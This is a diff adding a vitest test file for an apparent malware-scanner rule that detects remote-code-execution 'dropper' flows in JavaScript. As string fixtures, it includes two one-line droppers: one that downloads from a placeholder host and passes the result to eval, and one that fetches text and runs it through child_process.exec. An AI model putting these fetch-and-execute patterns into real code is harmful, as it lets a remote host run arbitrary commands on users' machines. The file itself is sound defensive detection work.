@@ -1,0 +1,19 @@
+import { describe, expect, it } from 'vitest';
+import { ruleFindings } from '../helpers.js';
+
+describe('JS-012 remote-code-execution-flow', () => {
+  it('follows response chunks accumulated in callbacks into eval', async () => {
+    const code = `require('https').get('https://x.invalid/p', res => { let b = ''; res.on('data', d => b += d); res.on('end', () => eval(b)); });`;
+    const f = await ruleFindings('JS-012', code);
+    expect(f).toHaveLength(1);
+    expect(f[0]!.category).toBe('dropper');
+  });
+  it('follows fetch().then chains and await into child_process', async () => {
+    const code = `(async () => { const r = await fetch('https://x.invalid/c'); const cmd = await r.text(); require('child_process').exec(cmd); })();`;
+    expect(await ruleFindings('JS-012', code)).toHaveLength(1);
+  });
+  it('ignores JSON responses that are only parsed', async () => {
+    const code = `(async () => { const r = await fetch('https://x.invalid/v'); const j = await r.json(); console.log(j.version); })();`;
+    expect(await ruleFindings('JS-012', code)).toHaveLength(0);
+  });
+});
